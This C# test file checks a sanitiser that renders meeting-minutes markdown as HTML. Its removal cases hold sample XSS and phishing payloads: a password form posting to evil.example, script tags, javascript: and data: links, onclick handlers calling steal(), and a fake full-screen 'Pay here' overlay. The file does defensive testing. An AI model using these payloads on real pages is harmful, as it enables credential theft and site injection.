using CoCommissioning.Web.Features.Minutes;

namespace CoCommissioning.Web.Tests.Minutes;

public sealed class MinutesHtmlTests
{
    public static TheoryData<string, string, string[]> Removed => new()
    {
        { "form", "Before <form action=\"https://evil.example/collect\"><input name=\"pw\"></form> after", ["<form", "<input", "evil.example"] },
        { "input", "Enter <input type=\"password\" name=\"pw\"> here", ["<input"] },
        { "button", "Click <button onclick=\"steal()\">Vote</button> now", ["<button", "onclick"] },
        { "iframe", "<iframe src=\"https://evil.example/\"></iframe>", ["<iframe", "evil.example"] },
        { "external image", "![logo](https://evil.example/track.png) and <img src=\"https://evil.example/x.png\">", ["<img", "evil.example"] },
        { "fixed overlay", "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">Pay here</p>", ["style", "position", "fixed", "z-index"] },
        { "class", "<p class=\"alert alert-danger\" id=\"main\">Looks official</p>", ["class", "alert", "id="] },
        { "javascript link", "[minutes](javascript:alert(1)) and <a href=\"JaVaScRiPt:alert(2)\">two</a>", ["javascript:", "alert(", "href"] },
        { "data link", "[minutes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href=\"data:text/html,x\">two</a>", ["data:", "href"] },
        { "onclick", "<p onclick=\"steal()\" onmouseover=\"steal()\">Hover</p>", ["onclick", "onmouseover", "steal"] },
        { "script", "Agreed.<script>alert('x')</script>", ["<script", "alert("] },
    };

    [Theory]
    [MemberData(nameof(Removed))]
    public void Unsafe_markup_is_removed(string name, string markdown, string[] forbidden)
    {
        var html = MinutesHtml.Render(markdown);

        html.Should().NotContainAny(forbidden, because: $"{name} must not reach the public minutes page");
    }

    public static TheoryData<string, string, string[]> Kept => new()
    {
        { "emphasis", "**agreed** *noted* ~~withdrawn~~", ["<strong>agreed</strong>", "<em>noted</em>", "<del>withdrawn</del>"] },
        { "lists", "- one\n- two\n\n1. first\n2. second", ["<ul>", "<li>one</li>", "<ol>", "<li>first</li>"] },
        { "table", "| Option | Votes |\n|---|--:|\n| A | 3 |", ["<table>", "<thead>", "<th>Option</th>", "<tbody>", "<td>A</td>", "<td>3</td>"] },
        { "table scope", "<table><tr><th scope=\"col\">Option</th></tr></table>", ["<th scope=\"col\">Option</th>"] },
        { "quote and code", "> Quoted\n\n`code`\n\n```\nblock\n```", ["<blockquote>", "<code>code</code>", "<pre><code>block"] },
        { "rule and break", "one  \ntwo\n\n---", ["<br>", "<hr>"] },
        { "mailto link", "[secretary](mailto:secretary@example.nhs.uk)", ["href=\"mailto:secretary@example.nhs.uk\"", "rel=\"noopener noreferrer\""] },
    };

    [Theory]
    [MemberData(nameof(Kept))]
    public void Minutes_structure_is_kept(string name, string markdown, string[] expected)
    {
        var html = MinutesHtml.Render(markdown);

        foreach (var fragment in expected)
        {
            html.Should().Contain(fragment, because: $"{name} belongs in minutes");
        }
    }

    [Fact]
    public void A_link_keeps_its_href_and_always_gets_noopener_noreferrer()
    {
        var html = MinutesHtml.Render("See [the paper](https://example.org/papers/4) and <a href=\"https://example.org/b\" rel=\"opener\" target=\"_blank\">b</a>.");

        html.Should().Contain("<a href=\"https://example.org/papers/4\" rel=\"noopener noreferrer\">the paper</a>")
            .And.Contain("<a href=\"https://example.org/b\" rel=\"noopener noreferrer\">b</a>")
            .And.NotContain("target").And.NotContain("\"opener\"");
    }

    [Theory]
    [InlineData("# Title", "<h3>Title</h3>")]
    [InlineData("## Title", "<h4>Title</h4>")]
    [InlineData("### Title", "<h5>Title</h5>")]
    [InlineData("#### Title", "<h6>Title</h6>")]
    [InlineData("###### Title", "<h6>Title</h6>")]
    [InlineData("<h1 id=\"x\" class=\"big\">Raw *title*</h1>", "<h3>Raw *title*</h3>")]
    public void Headings_are_demoted_below_the_pages_item_headings(string markdown, string expected)
    {
        var html = MinutesHtml.Render(markdown);

        html.Should().Contain(expected).And.NotContainAny("<h1", "<h2");
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("   ")]
    public void Empty_narrative_renders_nothing(string? markdown) => MinutesHtml.Render(markdown).Should().BeEmpty();

    [Fact]
    public void Concurrent_renders_on_the_shared_sanitiser_agree()
    {
        const string markdown = "# Heading\n\n**agreed** [paper](https://example.org/p) <form><input></form>";
        var expected = MinutesHtml.Render(markdown);

        var results = Enumerable.Range(0, 200).AsParallel().Select(_ => MinutesHtml.Render(markdown)).ToList();

        results.Should().AllBe(expected);
    }
}
